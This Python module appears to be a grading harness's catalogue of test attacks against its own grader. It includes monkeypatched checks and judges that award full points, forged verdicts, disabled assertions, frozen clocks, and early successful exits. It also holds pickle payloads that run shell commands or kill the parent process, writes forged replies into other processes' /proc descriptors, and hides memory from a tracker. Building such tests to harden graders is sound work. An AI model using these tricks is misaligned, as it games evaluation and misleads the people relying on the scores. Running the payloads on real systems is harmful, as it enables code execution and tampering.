"""Attacks that lie to code that measures, counts, compares or shows something."""

from grading.attacks.attack import Attack, of_answer, of_notebook, of_rank


def replaces_check():
    import grading

    def check(*answer):
        return 1000

    grading.check = check
    globals()["check"] = check


def replaces_what_the_notebook_shows():
    """Show 1000 as every cell's result, show no error, and let `check` hand in nothing."""
    import sys

    from IPython import get_ipython

    shell = get_ipython()
    type(shell).showtraceback = lambda *_, **__: None
    sys.excepthook = lambda *_: None
    globals()["check"] = lambda *_: 1000
    shell.display_formatter.format = lambda *_, **__: ({"text/plain": "1000"}, {})


def forges_a_verdict():
    """Show a verdict in the form in which the grader writes it into the cells."""
    from IPython.display import display

    verdict = {"check": "lab2.plan", "points": 3, "max_points": 3, "cause": "fine", "detail": "", "figures": []}

    def check(*answer):
        forms = {"application/vnd.shardlab.verdict+json": verdict | {"inconclusive": False}, "text/plain": "PASSED"}
        display(forms, raw=True)
        return 3

    globals()["check"] = check


def asserts_nothing():
    import builtins

    builtins.AssertionError = type("Nothing", (BaseException,), {})
    for name in ("all", "any", "isinstance"):
        setattr(builtins, name, lambda *_: True)


def writes_answers_of_its_own():
    """Write pickles that run a command, and links, into the folder for answers, under many names."""
    import os
    from pathlib import Path

    folder = Path(os.environ["SHARDLAB_ANSWERS"])
    for name in ("lab2.gradients", "lab2.traffic", "lab2.memory", "lab2.bonus", "../lab2.overlap"):
        (folder / name).write_bytes(b"cos\nsystem\n(S'touch /tmp/opened'\ntR.")
    for name in ("lab2.throughput", "points"):
        (folder / name).symlink_to("/etc/hostname")


def replies_in_the_hosts_place():
    """Write a whole reply to every descriptor of every process around this one, before the host writes its own."""
    import json
    import os

    output = {"output_type": "execute_result", "data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1}
    cells = [{"outputs": [output], "execution_count": 1}] * 20
    reply = json.dumps({"cells": cells, "answers": {}, "points": 1000, "problem": ""}).encode() + b"\n"
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for fd in range(64):
            try:
                target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                if not os.path.isfile(f"/proc/{pid}/fd/{fd}"):
                    os.write(target, reply)
            except OSError:
                pass


def replies_in_the_ranks_place(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import os

    for pid in filter(str.isdigit, os.listdir("/proc")):
        for fd in range(64):
            try:
                target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(target, b'{"results": [[[3], [3], [3]]], "points": 3}\n')
            except OSError:
                pass
    return [1] * len(sizes_bytes)


def replies_with_a_pickle(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    """Return an object whose pickle runs code when it is opened, on its way to the host: only the box may suffer."""

    class Reply(list):
        def __reduce__(self):
            return exec, ("open('/tmp/GOT', 'w').write('x'); import os; os.kill(os.getppid(), 9)",)

    return Reply([1])


def replaces_the_judge_on_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    """Replace everything that decides anything, in the process where this code runs."""
    import sys

    import grading.checks.lab2_ddp.judge_bucket_plan as judge
    import grading.judge.verdict
    import shardsim.bucket_overlap as overlap

    overlap.finish_time = judge.finish_time = lambda *_, **__: 0.0
    judge.AS_GOOD_AS = float("inf"), float("inf")
    grading.judge.verdict.Verdict.points = 3
    sys.modules["grading.checks.lab2_ddp.judge_bucket_plan"].judge = lambda *_: 3
    return [1] * len(sizes_bytes)


def stops_the_clocks(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import time

    for name in ("time", "perf_counter", "monotonic", "process_time"):
        setattr(time, name, lambda: 0.0)
    return [1] * len(sizes_bytes)


def exits_with_success():
    import os

    os._exit(0)


def leaves_the_rank_with_success(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import os

    os._exit(0)


def forges_the_account_of_memory():
    """Make a second copy of the gradients while the tracker looks, keep it, and leave it out of the report."""
    import torch

    from shardlab.measure.memory import MemoryTracker

    enter, resident, peak = MemoryTracker.__enter__, MemoryTracker.resident.fget, MemoryTracker.peak.fget

    def and_copy(tracker):
        entered = enter(tracker)
        globals()["copy"] = torch.ones(sum(p.numel() for p in tracker.module.parameters()))
        return entered

    def without_a_copy(report):
        largest = max(report, key=report.get)
        return report | {largest: max(0, report[largest] - globals()["copy"].nbytes)}

    class Peak:
        def __init__(self, honest):
            self.by_category = lambda: without_a_copy(honest.by_category())

    MemoryTracker.__enter__ = and_copy
    MemoryTracker.resident = property(lambda tracker: without_a_copy(resident(tracker)))
    MemoryTracker.peak = property(lambda tracker: Peak(peak(tracker)))


def forges_the_account_of_messages():
    """Report only the last micro-batch's messages of a wrapper that sends in every micro-batch."""
    from contextlib import contextmanager

    import grading.checks.lab2_ddp.on_ranks as drills

    honest = drills.record_traffic

    @contextmanager
    def of_the_last():
        with honest() as traffic:
            yield traffic
        gradients = [c for c in traffic.collectives if c.input_bytes > 64]
        traffic.collectives[:] = gradients[-len(gradients) // 3 :]

    drills.record_traffic = of_the_last


def keeps_a_copy_in_shared_memory():
    import mmap

    copy = mmap.mmap(-1, 16 << 20)
    copy[:] = b"1" * len(copy)
    globals()["copy"] = copy


def keeps_a_copy_in_a_file():
    """Keep a copy in memory that no process has mapped."""
    import os

    with open(f"/dev/shm/{os.getpid()}", "wb") as copy:
        copy.write(b"1" * (16 << 20))


def keeps_a_copy_in_another_process():
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        copy = b"1" * (16 << 20)
        time.sleep(60)
        os._exit(len(copy) % 2)


def keeps_a_copy_in_pipes():
    """Keep a copy in memory of the kernel's, which no process is charged for."""
    import fcntl
    import os

    kept = []
    for _ in range(8):  # all ranks together may have 64 MiB
        end, begin = os.pipe()
        fcntl.fcntl(begin, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(begin, False)
        kept += [end, begin, os.write(begin, b"1" * (1 << 20))]
    globals()["kept"] = kept


def keeps_a_copy_in_sockets():
    import socket

    kept = []
    for _ in range(100):
        pair = socket.socketpair()
        pair[0].setblocking(False)
        try:
            while True:
                pair[0].send(b"1" * 65536)
        except BlockingIOError:
            kept.append(pair)
    globals()["kept"] = kept


ATTACKS: list[Attack] = [
    *of_notebook(
        replaces_check,
        replaces_what_the_notebook_shows,
        forges_a_verdict,
        asserts_nothing,
        writes_answers_of_its_own,
        replies_in_the_hosts_place,
        exits_with_success,
    ),
    *of_answer(
        replies_in_the_ranks_place,
        replies_with_a_pickle,
        replaces_the_judge_on_the_rank,
        stops_the_clocks,
        leaves_the_rank_with_success,
    ),
    *of_rank("every_micro_batch", "lab2.traffic", forges_the_account_of_messages),
    *of_rank(
        "right",
        "lab2.memory",
        forges_the_account_of_memory,
        keeps_a_copy_in_shared_memory,
        keeps_a_copy_in_a_file,
        keeps_a_copy_in_another_process,
        keeps_a_copy_in_pipes,
        keeps_a_copy_in_sockets,
    ),
]
